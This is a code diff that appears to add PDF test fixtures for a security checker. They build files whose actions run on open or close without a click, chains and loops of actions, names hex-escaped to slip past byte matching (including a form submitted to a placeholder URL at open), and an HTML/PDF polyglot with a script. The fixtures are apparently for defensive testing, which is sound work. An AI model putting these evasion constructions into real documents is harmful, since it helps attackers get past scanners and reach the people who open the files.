@@ -321,6 +321,80 @@ def pdf_with_javascript_in_object_stream() -> bytes:
     return pdf_with_object_stream(b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>")
 
 
+# --- PDF: actions run without a click -------------------------------------------------------------------
+
+#: The trigger of an /AA entry on each kind of owner: the page opens, the document is about to close, the
+#: pointer enters the annotation.
+_AA_TRIGGER = {"page": b"/O", "document": b"/WC", "annotation": b"/E"}
+
+
+def pdf_with_additional_action(action: bytes, *, on: str = "page", indirect: bool = False) -> bytes:
+    """A letter whose page (``on="page"``), catalog (``"document"``) or link annotation (``"annotation"``)
+    has an /AA (additional actions) dictionary running ``action`` (object 6) on its trigger, which needs
+    no click. ``indirect`` puts the /AA dictionary in an object of its own (8)."""
+    entry = b"<< " + _AA_TRIGGER[on] + b" 6 0 R >>"
+    additional = b"/AA 8 0 R" if indirect else b"/AA " + entry
+    if on == "page":
+        objects = letter_objects(page_extra=additional)
+    elif on == "document":
+        objects = letter_objects(catalog_extra=additional)
+    else:
+        objects = letter_objects(page_extra=b"/Annots [7 0 R]")
+        objects[7] = b"<< /Type /Annot /Subtype /Link /Rect [50 50 200 80] " + additional + b" >>"
+    objects[6] = action
+    if indirect:
+        objects[8] = entry
+    return raw_pdf(objects)
+
+
+def pdf_with_chained_open_action(following: bytes) -> bytes:
+    """An /OpenAction that shows page 1 (object 6), then runs ``following`` (object 7) through /Next."""
+    objects = letter_objects(catalog_extra=b"/OpenAction 6 0 R")
+    objects[6] = b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>"
+    objects[7] = following
+    return raw_pdf(objects)
+
+
+def pdf_with_open_action_chain(length: int) -> bytes:
+    """An /OpenAction of ``length`` page-1 actions, each an object of its own chained to the next."""
+    objects = letter_objects(catalog_extra=b"/OpenAction 6 0 R")
+    for index in range(length):
+        following = b" /Next %d 0 R" % (7 + index) if index < length - 1 else b""
+        objects[6 + index] = b"<< /S /GoTo /D [3 0 R /Fit]" + following + b" >>"
+    return raw_pdf(objects)
+
+
+def pdf_with_looping_open_action() -> bytes:
+    """Two page-1 actions chained to each other through /Next: a cycle a checker must not follow forever."""
+    objects = letter_objects(catalog_extra=b"/OpenAction 6 0 R")
+    objects[6] = b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>"
+    objects[7] = b"<< /S /Named /N /FirstPage /Next [6 0 R 7 0 R] >>"
+    return raw_pdf(objects)
+
+
+def pdf_with_escaped_open_action() -> bytes:
+    """``/Open#41ction`` running ``/#53ubmitForm``: the bytes contain neither ``OpenAction`` nor
+    ``SubmitForm``; only a parser that decodes names finds the form sent away at open."""
+    objects = letter_objects(catalog_extra=b"/Open#41ction 6 0 R")
+    objects[6] = b"<< /S /#53ubmitForm /F << /FS /URL /F (https://contoh.invalid/kirim) >> /Flags 4 >>"
+    return raw_pdf(objects)
+
+
+def pdf_with_escaped_additional_action() -> bytes:
+    """A page ``/A#41`` (/AA) whose page-open action is ``/Imp#6frtD#61ta``: neither ``/AA`` nor
+    ``ImportData`` is in the bytes."""
+    objects = letter_objects(page_extra=b"/A#41 << /#4f 6 0 R >>")
+    objects[6] = b"<< /S /Imp#6frtD#61ta /F (data.fdf) >>"
+    return raw_pdf(objects)
+
+
+def pdf_behind_html(header_at: int = 60) -> bytes:
+    """A letter behind an HTML page with a script, padded so that ``%PDF-`` starts at byte ``header_at``:
+    a browser sniffing the first bytes sees HTML, a lenient PDF reader finds the PDF."""
+    page = b"<html><script>alert(document.domain)</script>"
+    return raw_pdf(letter_objects(), prefix=page.ljust(header_at, b" "))
+
+
 # --- archives in disguise -------------------------------------------------------------------------------
 
 
